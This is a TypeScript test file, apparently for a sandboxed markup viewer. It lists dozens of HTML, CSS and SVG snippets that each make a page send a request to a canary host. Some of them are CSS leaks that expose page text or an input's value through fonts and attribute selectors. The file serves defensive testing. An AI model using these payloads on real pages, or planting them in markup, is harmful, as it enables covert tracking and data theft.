import type { Attack } from './attack.ts'
import { network } from './network-requests.ts'
import { markup } from './view-kit.ts'

const css = (rules: string): string => markup(`<style>${rules}</style><div class="x">secret</div><input value="secret">`)

/** Requests that the parser or the style engine makes. */
export const markupAttacks: readonly Attack[] = [
  network('img', 'img', ({ canary }) => markup(`<img src="${canary}/x.png">`)),
  network('img-lazy', 'img, lazily', ({ canary }) => markup(`<img loading="lazy" src="${canary}/x.png">`)),
  network('srcset', 'srcset', ({ canary }) => markup(`<img srcset="${canary}/x.png 1x, ${canary}/y.png 2x">`)),
  network('picture', 'picture', ({ canary }) => markup(`<picture><source srcset="${canary}/x.png"><img></picture>`)),
  network('image-alias', 'the image element that is none', ({ canary }) => markup(`<image src="${canary}/x.png">`)),
  network('input-image', 'a button that is an image', ({ canary }) => markup(`<input type="image" src="${canary}/x.png">`)),
  network('attribution', 'an attribution source', ({ canary }) =>
    markup(
      `<img attributionsrc="${canary}/x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><img attributionsrc src="${canary}/y">`,
    ),
  ),
  network('video', 'video', ({ canary }) => markup(`<video src="${canary}/x.mp4" preload="auto"></video>`)),
  network('video-source', 'a source of a video', ({ canary }) =>
    markup(`<video preload="auto"><source src="${canary}/x.mp4" type="video/mp4"></video>`),
  ),
  network('audio', 'audio', ({ canary }) => markup(`<audio src="${canary}/x.mp3" preload="auto"></audio>`)),
  network('poster', 'poster', ({ canary }) => markup(`<video poster="${canary}/x.png"></video>`)),
  network('track', 'a text track', ({ canary }) =>
    markup(
      `<video crossorigin src="data:video/mp4,"><track default kind="subtitles" src="${canary}/x.vtt"></video><script>document.querySelector('track').track.mode = 'showing'</script>`,
    ),
  ),
  network('background', 'the background attribute', ({ canary }) =>
    markup(`<table background="${canary}/x.png"><tr><td background="${canary}/y.png">x</table>`),
  ),
  network('body-background', 'the background attribute of the body', ({ canary }) =>
    markup(`<script>document.body.setAttribute('background', '${canary}/x.png')</script>`),
  ),
  network('object', 'object', ({ canary }) => markup(`<object data="${canary}/x.svg" type="image/svg+xml"></object>`)),
  network('object-html', 'object with a document', ({ canary }) => markup(`<object data="${canary}/x.html"></object>`)),
  network('embed', 'embed', ({ canary }) => markup(`<embed src="${canary}/x.svg">`)),
  network('iframe', 'iframe', ({ canary }) => markup(`<iframe src="${canary}/x.html"></iframe>`)),
  network('iframe-lazy', 'iframe, lazily', ({ canary }) => markup(`<iframe loading="lazy" src="${canary}/x.html"></iframe>`)),
  network('iframe-credentialless', 'iframe without credentials', ({ canary }) =>
    markup(`<iframe credentialless src="${canary}/x.html"></iframe>`),
  ),
  network('frameset', 'a frame of a frameset', ({ canary }) =>
    markup(
      `<script>const s = document.createElement('frameset'), f = document.createElement('frame'); f.src = '${canary}/x.html'; s.append(f); document.documentElement.append(s)</script>`,
    ),
  ),
  network('script', 'script', ({ canary }) => markup(`<script src="${canary}/x.js"></script>`)),
  network('script-module', 'a module script', ({ canary }) => markup(`<script type="module" src="${canary}/x.js"></script>`)),
  network('static-import', 'import in a module script', ({ canary }) =>
    markup(`<script type="module">import '${canary}/x.js'</script>`),
  ),
  network('svg-script', 'script in SVG', ({ canary }) => markup(`<svg><script href="${canary}/x.js"></script></svg>`)),
  network('base', 'a base that leads elsewhere', ({ canary }) =>
    markup(`<base href="${canary}/"><img src="x.png"><script src="x.js"></script>`),
  ),
  network('link-stylesheet', 'link to a style sheet', ({ canary }) => markup(`<link rel="stylesheet" href="${canary}/x.css">`)),
  network('link-alternate', 'link to another style sheet', ({ canary }) =>
    markup(`<link rel="alternate stylesheet" title="x" href="${canary}/x.css">`),
  ),
  network('link-prefetch', 'link prefetch', ({ canary }) => markup(`<link rel="prefetch" href="${canary}/x">`)),
  network('link-preload-image', 'link preload of an image', ({ canary }) =>
    markup(`<link rel="preload" as="image" href="${canary}/x.png">`),
  ),
  network('link-preload-srcset', 'link preload with a set of images', ({ canary }) =>
    markup(`<link rel="preload" as="image" imagesrcset="${canary}/x.png 1x">`),
  ),
  network('link-preload-fetch', 'link preload for fetch', ({ canary }) =>
    markup(`<link rel="preload" as="fetch" crossorigin href="${canary}/x">`),
  ),
  network('link-preload-font', 'link preload of a font', ({ canary }) =>
    markup(`<link rel="preload" as="font" crossorigin href="${canary}/x.woff2">`),
  ),
  network('link-preload-style', 'link preload of a style sheet', ({ canary }) =>
    markup(`<link rel="preload" as="style" href="${canary}/x.css">`),
  ),
  network('link-modulepreload', 'link modulepreload', ({ canary }) => markup(`<link rel="modulepreload" href="${canary}/x.js">`)),
  {
    ...network('link-preconnect', 'link preconnect', ({ canary }) => markup(`<link rel="preconnect" href="${canary}">`)),
    keptProfile: true,
  },
  {
    ...network('link-preconnect-cors', 'link preconnect with CORS, added by script', ({ canary }) =>
      markup(
        `<script>const l = document.createElement('link'); l.rel = 'preconnect'; l.crossOrigin = ''; l.href = '${canary}'; document.head.append(l)</script>`,
      ),
    ),
    keptProfile: true,
  },
  network('css-import', '@import', ({ canary }) => css(`@import url('${canary}/x.css');`)),
  network('css-import-layer', '@import into a layer', ({ canary }) =>
    css(`@import '${canary}/x.css' layer(a) supports(display: grid);`),
  ),
  network('css-background', 'background in CSS', ({ canary }) => css(`.x { background: url('${canary}/x.png') }`)),
  network('css-style-attribute', 'a style attribute', ({ canary }) => markup(`<p style="background:url(${canary}/x.png)">x`)),
  network('css-variable', 'an address in a custom property', ({ canary }) =>
    css(`:root { --u: url('${canary}/x.png') } .x { background: var(--u) }`),
  ),
  network('css-image-set', 'image-set()', ({ canary }) => css(`.x { background: image-set('${canary}/x.png' 1x) }`)),
  network('css-cross-fade', 'cross-fade()', ({ canary }) =>
    css(`.x { background: -webkit-cross-fade(url('${canary}/x.png'), url('${canary}/y.png'), 50%) }`),
  ),
  network('css-content', 'content', ({ canary }) => css(`.x::before { content: url('${canary}/x.png') }`)),
  network('css-cursor', 'cursor', ({ canary }) => css(`.x { cursor: url('${canary}/x.png'), auto }`)),
  network('css-list', 'list-style-image', ({ canary }) =>
    css(`.x { display: list-item; list-style-image: url('${canary}/x.png') }`),
  ),
  network('css-border', 'border-image', ({ canary }) => css(`.x { border: 1px solid; border-image: url('${canary}/x.png') 1 }`)),
  network('css-mask', 'mask-image', ({ canary }) => css(`.x { mask-image: url('${canary}/x.png') }`)),
  network('css-shape', 'shape-outside', ({ canary }) => css(`.x { float: left; shape-outside: url('${canary}/x.png') }`)),
  network('css-clip', 'a clip path from elsewhere', ({ canary }) => css(`.x { clip-path: url('${canary}/x.svg#c') }`)),
  network('css-font', 'a font', ({ canary }) =>
    css(`@font-face { font-family: f; src: url('${canary}/x.woff2') } .x { font-family: f }`),
  ),
  network('css-font-range', 'a font per letter, which tells the text', ({ canary }) =>
    css(
      `@font-face { font-family: f; src: url('${canary}/s'); unicode-range: U+73 } @font-face { font-family: f; src: url('${canary}/e'); unicode-range: U+65 } .x { font-family: f }`,
    ),
  ),
  network('css-attribute', 'a selector that tells a value', ({ canary }) =>
    css(`input[value^='s'] { background: url('${canary}/s') }`),
  ),
  network('css-scroll-text', 'a selector that tells what is visited or checked', ({ canary }) =>
    css(`:root:has(input[value$='t']) .x { background: url('${canary}/t') }`),
  ),
  network('svg-image', 'image in SVG', ({ canary }) => markup(`<svg><image href="${canary}/x.png" width="9" height="9"/></svg>`)),
  network('svg-xlink', 'image in SVG by XLink', ({ canary }) =>
    markup(`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${canary}/x.png" width="9" height="9"/></svg>`),
  ),
  network('svg-feimage', 'feImage', ({ canary }) =>
    markup(
      `<svg width="9" height="9"><filter id="f"><feImage href="${canary}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ),
  ),
  network('svg-set', 'an animated address', ({ canary }) =>
    markup(`<svg><image width="9" height="9"><set attributeName="href" to="${canary}/x.png"/></image></svg>`),
  ),
  network('svg-style', 'a style sheet in SVG', ({ canary }) => markup(`<svg><style>@import url(${canary}/x.css);</style></svg>`)),
  network('svg-foreign', 'HTML within SVG', ({ canary }) =>
    markup(`<svg width="9" height="9"><foreignObject width="9" height="9"><img src="${canary}/x.png"></foreignObject></svg>`),
  ),
]
